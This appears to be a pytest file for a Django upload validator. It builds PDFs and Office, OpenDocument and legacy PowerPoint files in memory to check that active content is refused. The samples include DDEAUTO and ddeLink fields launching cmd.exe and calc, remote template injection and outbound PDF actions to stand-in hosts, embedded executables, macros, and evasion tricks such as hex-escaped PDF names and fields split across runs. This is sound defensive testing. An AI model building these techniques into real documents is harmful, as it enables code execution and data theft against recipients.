"""Documents that would run something on a reader's machine are refused, each with its reason;
their clean look-alikes are accepted. Every file is built here, in memory."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from documents.validation import inspect_upload
from tests.documents.test_uploads import (
    OLE_END,
    OLE_FAT,
    OLE_FREE,
    OLE_NONE,
    PE,
    odf_bytes,
    ole_entry,
)
from tests.factories import pdf_bytes

# --- PDF ------------------------------------------------------------------------------------


def name(value):
    return NameObject(value)


def action(kind, **entries):
    return DictionaryObject(
        {name("/S"): name(kind), **{name(f"/{k}"): v for k, v in entries.items()}}
    )


def pdf(build, escape=()):
    """A one-page PDF changed by `build(writer)`; `escape` pairs rewrite names in its bytes."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    for plain, written in escape:
        assert plain in data
        data = data.replace(plain, written)
    return data


def open_action(value):
    def build(writer):
        writer._root_object[name("/OpenAction")] = value

    return build


def stream(writer, data, compress=True):
    content = DecodedStreamObject()
    content.set_data(data)
    return writer._add_object(content.flate_encode() if compress else content)


XDP = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">%s</xdp:xdp>'
XFA_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<field name="f"><event activity="initialize">%s</event></field></subform></template>'
)
XFA_SCRIPT = b'<script contentType="application/x-javascript">app.alert("run")</script>'


def xfa_form(*packets, compress=True):
    """An XFA form in the AcroForm: one stream, or packet names and streams in an array."""

    def build(writer):
        if len(packets) == 1:
            xfa = stream(writer, packets[0], compress)
        else:
            xfa = ArrayObject()
            for number, packet in enumerate(packets):
                xfa.extend([TextStringObject(f"packet{number}"), stream(writer, packet, compress)])
        writer._root_object[name("/AcroForm")] = DictionaryObject(
            {name("/Fields"): ArrayObject(), name("/XFA"): xfa}
        )

    return build


def attachment(filename, data, opened=False):
    """A file carried by the PDF, opened by a /GoToE action when the document opens if asked."""

    def build(writer):
        writer.add_attachment(filename, data)
        if opened:
            target = DictionaryObject(
                {name("/R"): name("/C"), name("/N"): TextStringObject(filename)}
            )
            writer._root_object[name("/OpenAction")] = action(
                "/GoToE", NewWindow=name("/true"), T=target
            )

    return build


def page_event(event, value):
    """An action on a page's events (/AA): /O runs as the page opens."""

    def build(writer):
        writer.pages[0][name("/AA")] = DictionaryObject({name(event): value})

    return build


def link(value, event=None):
    """A link annotation over the page: its action (/A) runs when the reader clicks it; an
    `event` puts it under the annotation's events (/AA) instead."""

    def build(writer):
        actions = {name("/A"): value}
        if event:
            actions = {name("/AA"): DictionaryObject({name(event): value})}
        writer.pages[0][name("/Annots")] = ArrayObject(
            [
                writer._add_object(
                    DictionaryObject(
                        {
                            name("/Type"): name("/Annot"),
                            name("/Subtype"): name("/Link"),
                            name("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 90, 20)]),
                            **actions,
                        }
                    )
                )
            ]
        )

    return build


URI = action("/URI", URI=TextStringObject("https://tracker.example/open"))
SUBMIT = action("/SubmitForm", F=TextStringObject("https://collector.example/form"))
FIRST_PAGE = action("/GoTo", D=TextStringObject("first"))


def pdf_with_object_stream(catalog_entries):
    """A PDF 1.5 whose catalog, page tree and page are packed in a compressed object stream,
    found through a cross-reference stream, as modern writers save."""
    objects = [
        b"<< /Type /Catalog /Pages 3 0 R " + catalog_entries + b" >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
    ]
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    index = b" ".join(
        b"%d %d" % (number, offset) for number, offset in zip((2, 3, 4), offsets, strict=True)
    )
    packed = zlib.compress(index + b"\n" + body)
    out = b"%PDF-1.5\n"
    object_stream_at = len(out)
    out += (
        b"1 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(index) + 1, len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    rows = [(0, 0, 0xFFFF), (1, object_stream_at, 0), (2, 1, 0), (2, 1, 1), (2, 1, 2)]
    rows.append((1, xref_at, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out


def incremental_update(base, build):
    """`base` with `build`'s change appended as an incremental update, the original untouched."""
    writer = PdfWriter(io.BytesIO(base), incremental=True)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    assert data.startswith(base) and data.count(b"%%EOF") > base.count(b"%%EOF")
    return data


ACTIVE_PDFS = [
    pytest.param(
        lambda: pdf(xfa_form(XDP % (XFA_TEMPLATE % XFA_SCRIPT))),
        "an XFA form with scripts",
        id="xfa-script-compressed-stream",
    ),
    pytest.param(
        lambda: pdf(
            xfa_form(
                b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">',
                XFA_TEMPLATE % XFA_SCRIPT,
                b"</xdp:xdp>",
            )
        ),
        "an XFA form with scripts",
        id="xfa-script-in-packets",
    ),
    pytest.param(
        lambda: pdf(
            xfa_form(
                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s "<script>go()</script>">]>'
                b"<xdp>&s;</xdp>",
                compress=False,
            )
        ),
        "an XFA form that cannot be checked for scripts",
        id="xfa-entity",
    ),
    pytest.param(
        lambda: pdf(attachment("setup.exe", PE, opened=True)),
        "an action that opens a file embedded in the PDF",
        id="gotoe-executable",
    ),
    pytest.param(
        lambda: pdf(attachment("annex.pdf", pdf_bytes(), opened=True)),
        "an action that opens a file embedded in the PDF",
        id="gotoe-pdf",
    ),
    pytest.param(
        lambda: pdf(attachment("annex.pdf", PE)),
        "an embedded program (“annex.pdf”)",
        id="embedded-program-by-content",
    ),
    pytest.param(
        lambda: pdf(attachment("run.bat", b"@echo off\r\nstart calc\r\n")),
        "an embedded program (“run.bat”)",
        id="embedded-program-by-name",
    ),
    pytest.param(
        lambda: pdf(open_action(URI)),
        "an action that opens a web address by itself",
        id="open-action-uri",
    ),
    pytest.param(
        lambda: pdf(open_action(SUBMIT)),
        "an action that sends form data by itself",
        id="open-action-submit-form",
    ),
    pytest.param(
        lambda: pdf(page_event("/O", URI)),
        "an action that opens a web address by itself",
        id="page-open-uri",
    ),
    pytest.param(
        lambda: pdf(link(URI, event="/E")),
        "an action that opens a web address by itself",
        id="uri-when-the-pointer-enters-a-link",
    ),
    pytest.param(
        lambda: pdf(open_action(action("/GoTo", D=TextStringObject("a"), Next=ArrayObject([URI])))),
        "an action that opens a web address by itself",
        id="uri-chained-after-go-to",
    ),
    pytest.param(
        lambda: pdf(link(action("/ImportData", F=TextStringObject("data.fdf")))),
        "an action that imports form data from another file",
        id="import-data",
    ),
    pytest.param(
        lambda: pdf(open_action(URI), escape=[(b"/OpenAction", b"/Open#41ction")]),
        "an action that opens a web address by itself",
        id="hex-escaped-open-action",
    ),
    pytest.param(
        lambda: pdf(
            open_action(SUBMIT),
            escape=[(b"/OpenAction", b"/#4fpen#41ction"), (b"/SubmitForm", b"/Submit#46orm")],
        ),
        "an action that sends form data by itself",
        id="hex-escaped-submit-form",
    ),
    pytest.param(
        lambda: pdf(page_event("/O", URI), escape=[(b"/AA", b"/#41A"), (b"/URI", b"/U#52I")]),
        "an action that opens a web address by itself",
        id="hex-escaped-page-event",
    ),
    pytest.param(
        lambda: pdf(open_action(action("/GoToE")), escape=[(b"/GoToE", b"/GoTo#45")]),
        "an action that opens a file embedded in the PDF",
        id="hex-escaped-gotoe",
    ),
    pytest.param(
        lambda: pdf_with_object_stream(b"/OpenAction << /S /U#52I /URI (https://t.example/) >>"),
        "an action that opens a web address by itself",
        id="object-stream-uri",
    ),
    pytest.param(
        lambda: pdf_with_object_stream(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "JavaScript",
        id="object-stream-javascript",
    ),
    pytest.param(
        lambda: incremental_update(pdf_bytes(), open_action(SUBMIT)),
        "an action that sends form data by itself",
        id="incremental-update-submit-form",
    ),
    pytest.param(
        lambda: incremental_update(pdf_bytes(), xfa_form(XDP % (XFA_TEMPLATE % XFA_SCRIPT))),
        "an XFA form with scripts",
        id="incremental-update-xfa",
    ),
]


@pytest.mark.parametrize(("make", "reason"), ACTIVE_PDFS)
def test_a_pdf_that_runs_or_reaches_out_by_itself_is_refused(make, reason):
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile("report.pdf", make()))
    assert refused.value.code == "active_content"
    assert refused.value.messages[0].startswith(f"The PDF contains {reason}")


CLEAN_PDFS = [
    pytest.param(lambda: pdf(link(URI)), id="link-to-a-web-address"),
    pytest.param(lambda: pdf(link(FIRST_PAGE)), id="internal-link"),
    pytest.param(lambda: pdf(open_action(FIRST_PAGE)), id="opens-at-its-first-page"),
    pytest.param(lambda: pdf(link(SUBMIT)), id="form-sent-by-a-click"),
    pytest.param(lambda: pdf(link(URI, event="/U")), id="address-opened-on-the-clicks-release"),
    pytest.param(lambda: pdf(attachment("figures.csv", b"country,arrivals\nIT,1200\n")), id="csv"),
    pytest.param(lambda: pdf(xfa_form(XDP % (XFA_TEMPLATE % b""))), id="xfa-without-script"),
    pytest.param(lambda: pdf_with_object_stream(b""), id="object-stream"),
    pytest.param(lambda: incremental_update(pdf_bytes(), open_action(FIRST_PAGE)), id="update"),
]


@pytest.mark.parametrize("make", CLEAN_PDFS)
def test_a_pdf_whose_actions_wait_for_a_click_or_stay_inside_is_accepted(make):
    data = make()
    assert len(PdfReader(io.BytesIO(data)).pages) == 1
    facts = inspect_upload(SimpleUploadedFile("report.pdf", data))
    assert facts.page_count == 1


# --- Office Open XML --------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MAIN_PARTS = {
    "docx": "word/document.xml",
    "xlsx": "xl/workbook.xml",
    "pptx": "ppt/presentation.xml",
}


def relationships(*rows):
    """A .rels part: rows of (type, target) or (type, target, "External")."""
    body = "".join(
        f'<Relationship Id="rId{number}" Type="{TYPES}{row[0]}" Target="{row[1]}"'
        + (f' TargetMode="{row[2]}"' if len(row) > 2 else "")
        + "/>"
        for number, row in enumerate(rows, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELATIONSHIPS}">{body}</Relationships>'


def word_body(paragraphs):
    return (
        f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{paragraphs}</w:body></w:document>'
    )


def complex_field(*pieces, result="1"):
    """A field of runs: its instruction split into `pieces`, one w:instrText each."""
    instructions = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{instructions}"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def office(kind="docx", parts=None, document=None):
    """A .docx, .xlsx or .pptx with its content types, its main part and `parts`."""
    main = MAIN_PARTS[kind]
    members = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types '
        'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": relationships(("officeDocument", main)),
        main: document or word_body("<w:p><w:r><w:t>Joint conclusions</w:t></w:r></w:p>"),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in (members | (parts or {})).items():
            archive.writestr(part, data)
    return buffer.getvalue()


OLE_HEAD = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
CMD = r'C:\\Windows\\System32\\cmd.exe "/k calc.exe"'

ACTIVE_OFFICE = [
    pytest.param(
        "docx",
        {
            "word/settings.xml": f'<w:settings xmlns:w="{W}"/>',
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "https://templates.example/report.dotm", "External")
            ),
        },
        None,
        "a template loaded from another address when it opens "
        "(https://templates.example/report.dotm)",
        id="remote-template",
    ),
    pytest.param(
        "docx",
        {
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", r"\\files.example\share\report.dotm", "External")
            )
        },
        None,
        "a template loaded from another address",
        id="remote-template-unc",
    ),
    pytest.param(
        "docx",
        {
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "file:////files.example/share/report.dotm", "External")
            )
        },
        None,
        "a template loaded from another address",
        id="remote-template-file-url-with-host",
    ),
    pytest.param(
        "docx",
        {
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "//files.example/share/report.dotm", "External")
            )
        },
        None,
        "a template loaded from another address",
        id="remote-template-network-path",
    ),
    pytest.param(
        "docx",
        {
            "word/_rels/webSettings.xml.rels": relationships(
                ("frame", "https://frames.example/x.docx", "External")
            )
        },
        None,
        "content loaded from another address when it opens",
        id="remote-frame",
    ),
    pytest.param(
        "docx",
        None,
        word_body(f"<w:p>{complex_field(' DDE', 'AUTO ', CMD)}</w:p>"),
        "a DDE field, a way to start a program (“DDEAUTO C:",
        id="ddeauto-split-across-runs",
    ),
    pytest.param(
        "docx",
        None,
        word_body(
            f'<w:p><w:fldSimple w:instr=" DDE {CMD.replace(chr(34), "&quot;")}">'
            "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
        ),
        "a DDE field",
        id="dde-simple-field",
    ),
    pytest.param(
        "docx",
        {
            "word/header1.xml": f'<w:hdr xmlns:w="{W}"><w:p>'
            f"{complex_field('ddeauto ', CMD)}</w:p></w:hdr>"
        },
        None,
        "a DDE field",
        id="ddeauto-lower-case-in-a-header",
    ),
    pytest.param(
        "docx",
        None,
        word_body(
            "<w:p>"
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f"{complex_field('QUOTE 68 68 69 65 85 84 79')}"
            f'<w:r><w:instrText xml:space="preserve"> {CMD}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            "</w:p>"
        ),
        "a field whose kind is made by another field",
        id="dde-kind-made-by-a-nested-field",
    ),
    pytest.param(
        "docx",
        {
            "word/embeddings/oleObject1.bin": OLE_HEAD,
            "word/_rels/document.xml.rels": relationships(
                ("oleObject", "embeddings/oleObject1.bin")
            ),
        },
        None,
        "an embedded OLE object",
        id="docx-ole-object",
    ),
    pytest.param(
        "docx",
        {
            "word/_rels/document.xml.rels": relationships(
                ("oleObject", "https://objects.example/payload.rtf", "External")
            )
        },
        None,
        "an embedded OLE object",
        id="docx-ole-object-linked-from-outside",
    ),
    pytest.param(
        "xlsx",
        {"xl/embeddings/oleObject1.bin": OLE_HEAD},
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        "an embedded OLE object",
        id="xlsx-ole-object",
    ),
    pytest.param(
        "pptx",
        {
            "ppt/slides/_rels/slide1.xml.rels": relationships(
                ("oleObject", "../embeddings/oleObject1.bin")
            )
        },
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        "an embedded OLE object",
        id="pptx-ole-object",
    ),
    pytest.param(
        "docx",
        {
            "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": office(
                "xlsx",
                {"xl/vbaProject.bin": OLE_HEAD},
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            )
        },
        None,
        "an embedded document with macros (“Microsoft_Excel_Macro-Enabled_Worksheet.xlsm”)",
        id="embedded-workbook-with-macros",
    ),
    pytest.param(
        "pptx",
        {
            "ppt/embeddings/Microsoft_Word_Document.docx": office(
                "docx", document=word_body(f"<w:p>{complex_field('DDEAUTO ', CMD)}</w:p>")
            )
        },
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        "a DDE field",
        id="embedded-document-with-a-dde-field",
    ),
    pytest.param(
        "docx",
        {"word/activeX/activeX1.xml": "<ax/>", "word/activeX/activeX1.bin": OLE_HEAD},
        None,
        "ActiveX controls",
        id="activex",
    ),
    pytest.param(
        "xlsx",
        {
            "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
            'ddeTopic="/c calc.exe"/></externalLink>'
        },
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        "a DDE link",
        id="xlsx-dde-link",
    ),
]


@pytest.mark.parametrize(("kind", "parts", "document", "reason"), ACTIVE_OFFICE)
def test_an_office_document_that_runs_or_loads_something_is_refused(kind, parts, document, reason):
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile(f"report.{kind}", office(kind, parts, document)))
    assert refused.value.code == "active_content", refused.value.messages
    assert refused.value.messages[0].startswith(f"The document contains {reason}")


CLEAN_OFFICE = [
    pytest.param(
        {"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "report.dotx"))},
        None,
        id="template-inside-the-package",
    ),
    pytest.param(
        {
            "word/_rels/settings.xml.rels": relationships(
                (
                    "attachedTemplate",
                    r"file:///C:\Users\officer\AppData\Roaming\Microsoft\Templates\Normal.dotm",
                    "External",
                )
            )
        },
        None,
        id="template-on-the-authors-disk",
    ),
    pytest.param(
        {
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "Templates/report.dotx", "External")
            )
        },
        None,
        id="template-beside-the-document",
    ),
    pytest.param(
        {
            "word/_rels/document.xml.rels": relationships(
                ("hyperlink", "https://www.khartoumprocess.net/", "External")
            )
        },
        None,
        id="link-to-a-web-address",
    ),
    pytest.param(
        {
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": office(
                "xlsx",
                document='<workbook xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"/>',
            ),
            "word/charts/_rels/chart1.xml.rels": relationships(
                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
            ),
        },
        None,
        id="chart-with-its-data",
    ),
    pytest.param(
        None,
        word_body(
            f"<w:p>{complex_field(' PAGE ')}"
            f"{complex_field(' HYPERLINK ', '&quot;https://www.khartoumprocess.net/&quot;')}"
            '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "><w:r><w:t>1 May</w:t>'
            "</w:r></w:fldSimple></w:p>"
            # A table of contents whose result holds fields of its own.
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + complex_field(" PAGEREF _Toc1 \\h ")
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            "<w:p><w:r><w:t>DDEAUTO is named here as a word, not a field</w:t></w:r></w:p>"
        ),
        id="ordinary-fields",
    ),
]


@pytest.mark.parametrize(("parts", "document"), CLEAN_OFFICE)
def test_a_word_document_with_ordinary_links_fields_and_templates_is_accepted(parts, document):
    facts = inspect_upload(SimpleUploadedFile("report.docx", office("docx", parts, document)))
    assert facts.extension == ".docx"


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(f'<w:document xmlns:w="{W}"><w:body>', id="cut-short"),
        pytest.param(
            f'<!DOCTYPE d [<!ENTITY e "DDEAUTO calc">]><w:document xmlns:w="{W}">'
            "<w:fldSimple w:instr='&e;'/></w:document>",
            id="entity-declaration",
        ),
    ],
)
def test_an_office_document_with_a_part_that_cannot_be_read_is_refused(document):
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile("report.docx", office(document=document)))
    assert refused.value.code == "corrupt"
    assert "one of its parts cannot be read" in refused.value.messages[0]


def test_an_office_document_whose_xml_expands_too_far_is_refused(monkeypatch):
    monkeypatch.setattr("documents.active_content.MAX_CHECKED_XML_BYTES", 10_000)
    paragraphs = "<w:p><w:r><w:t>Joint conclusions</w:t></w:r></w:p>" * 1000
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile("report.docx", office(document=word_body(paragraphs))))
    assert "expand too far to be checked" in refused.value.messages[0]


# --- OpenDocument -----------------------------------------------------------------------------

ACTIVE_ODF = [
    pytest.param(
        lambda: odf_bytes("text", members={"Scripts/python/run.py": "import os"}),
        "macros",
        "The document contains macros",
        id="python-script",
    ),
    pytest.param(
        lambda: odf_bytes(
            "text",
            members={"./Basic/Standard/Module1.xml": "<m/>"},
        ),
        "macros",
        "The document contains macros",
        id="basic-under-a-dotted-path",
    ),
    pytest.param(
        lambda: odf_bytes(
            "spreadsheet", manifest_entries=[("Basic/Standard/Module1.xml", "text/xml")]
        ),
        "macros",
        "The document contains macros",
        id="basic-listed-in-the-manifest",
    ),
    pytest.param(
        lambda: odf_bytes(
            "text",
            content='<text:p><text:a xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py'
            '$run?language=Python&amp;location=share">x</text:a></text:p>',
        ),
        "active_content",
        "The document contains a link or event that runs a macro or script "
        "(vnd.sun.star.script:LibreLogo",
        id="link-to-an-application-script",
    ),
    pytest.param(
        lambda: odf_bytes(
            "presentation",
            content='<script:event-listener script:language="ooo:script" '
            'script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:Standard.'
            'Module1.Main?language=Basic&amp;location=application"/>',
        ),
        "active_content",
        "The document contains a link or event that runs a macro or script",
        id="event-listener",
    ),
    pytest.param(
        lambda: odf_bytes(
            "text",
            content='<script:event-listener script:language="StarBasic" '
            'script:event-name="dom:load" script:macro-name="Tools.Misc.Run"/>',
        ),
        "active_content",
        "The document contains a link or event that runs a macro or script (Tools.Misc.Run)",
        id="star-basic-event-listener",
    ),
    pytest.param(
        lambda: odf_bytes(
            "text",
            manifest_entries=[("Object 1", "application/vnd.sun.star.oleobject")],
            members={"Object 1": OLE_HEAD},
        ),
        "active_content",
        "The document contains an embedded OLE object",
        id="ole-object",
    ),
]


@pytest.mark.parametrize(("make", "code", "message"), ACTIVE_ODF)
def test_an_opendocument_file_that_runs_something_is_refused(make, code, message):
    data = make()
    kind = zipfile.ZipFile(io.BytesIO(data)).read("mimetype").decode().rsplit(".", 1)[1]
    extension = {"text": ".odt", "spreadsheet": ".ods", "presentation": ".odp"}[kind]
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile(f"notes{extension}", data))
    assert refused.value.code == code
    assert refused.value.messages[0].startswith(message)


def test_an_opendocument_text_with_a_web_link_and_a_picture_is_accepted():
    data = odf_bytes(
        "text",
        content='<text:p><text:a xlink:href="https://www.khartoumprocess.net/">site</text:a>'
        "</text:p>",
        manifest_entries=[("Pictures/map.png", "image/png")],
        members={"Pictures/map.png": b"\x89PNG\r\n\x1a\n"},
    )
    assert inspect_upload(SimpleUploadedFile("notes.odt", data)).extension == ".odt"


# --- PowerPoint 97–2003 -----------------------------------------------------------------------


def record(kind, body=b"", container=False, version=0):
    return struct.pack("<HHI", 0xF if container else version, kind, len(body)) + body


DOCUMENT_ATOM = record(0x03E9, bytes(40), version=1)
# A VBAInfoContainer with its VBAInfoAtom: the presentation's VBA project is persist object 7.
VBA_INFO = record(0x03FF, record(0x0400, struct.pack("<III", 7, 0, 2), version=2), container=True)


def powerpoint_stream(*document_records):
    """A "PowerPoint Document" stream: a DocumentContainer, padded (by a record of a kind no
    one reads) past 4,096 bytes so that the compound file keeps it in ordinary sectors."""
    document = record(0x03E8, b"".join(document_records), container=True)
    return document + record(0x0FFF, bytes(4200 - len(document)))


def compound_file(streams):
    """A compound file with `streams` (name → bytes of 4,096 or more) at its root."""
    sector = 512
    entries = [ole_entry("Root Entry", 5, child=1)]
    chains, data = [], b""
    first = 2  # sector 0 is the FAT, sector 1 the directory
    for number, (stream_name, content) in enumerate(streams.items(), start=1):
        assert len(content) >= 4096
        count = -(-len(content) // sector)
        start = first + len(data) // sector
        chains.append((start, count))
        data += content.ljust(count * sector, b"\0")
        right = number + 1 if number < len(streams) else OLE_NONE
        entry = bytearray(ole_entry(stream_name, 2, right=right))
        struct.pack_into("<IQ", entry, 116, start, len(content))
        entries.append(bytes(entry))
    assert len(entries) <= 4
    entries += [ole_entry("", 0)] * (4 - len(entries))
    fat = [OLE_FAT, OLE_END]
    for start, count in chains:
        fat += [start + n + 1 for n in range(count - 1)] + [OLE_END]
    fat += [OLE_FREE] * (sector // 4 - len(fat))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        bytes.fromhex("D0CF11E0A1B11AE1"),
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        1,
        1,
        0,
        4096,
        OLE_END,
        0,
        OLE_END,
        0,
    ) + struct.pack("<109I", 0, *[OLE_FREE] * 108)
    return header.ljust(sector, b"\0") + struct.pack("<128I", *fat) + b"".join(entries) + data


def test_a_powerpoint_97_2003_presentation_with_macros_is_refused():
    data = compound_file({"PowerPoint Document": powerpoint_stream(DOCUMENT_ATOM, VBA_INFO)})
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile("slides.ppt", data))
    assert refused.value.code == "macros"
    assert "contains macros" in refused.value.messages[0]


def test_a_powerpoint_97_2003_presentation_without_macros_is_accepted():
    data = compound_file({"PowerPoint Document": powerpoint_stream(DOCUMENT_ATOM)})
    facts = inspect_upload(SimpleUploadedFile("slides.ppt", data))
    assert facts.content_type == "application/vnd.ms-powerpoint"
